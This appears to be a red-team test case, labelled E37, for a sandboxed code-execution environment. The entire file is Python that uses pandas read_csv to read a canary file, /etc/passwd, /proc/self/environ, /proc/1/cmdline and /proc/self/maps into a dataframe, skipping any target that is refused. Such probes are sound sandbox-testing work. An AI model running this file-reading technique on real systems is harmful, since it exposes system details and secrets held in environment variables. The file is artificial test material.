# technique: pd.read_csv(sep=\\x01, header=None) on host files: every line becomes a row (canary, /etc/passwd, /proc/self/environ, /proc/1/cmdline, /proc/self/maps); df only if some target was read
# goal: read
# redteam: E37
import pandas as pd

TARGETS = ["{{CANARY_FILE}}", "/etc/passwd", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/maps"]
rows = []
for path in TARGETS:
    try:
        frame = pd.read_csv(path, sep="\x01", header=None, dtype=str, quoting=3, engine="python", encoding="latin-1")
        data = "\n".join(frame[0].astype(str).tolist())
    except Exception:  # this target was refused; df below only if another one was read
        continue
    if data:
        rows.append({"target": path, "content": data[:2000]})
if not rows:
    raise RuntimeError("no target was readable")
df = pd.DataFrame(rows)
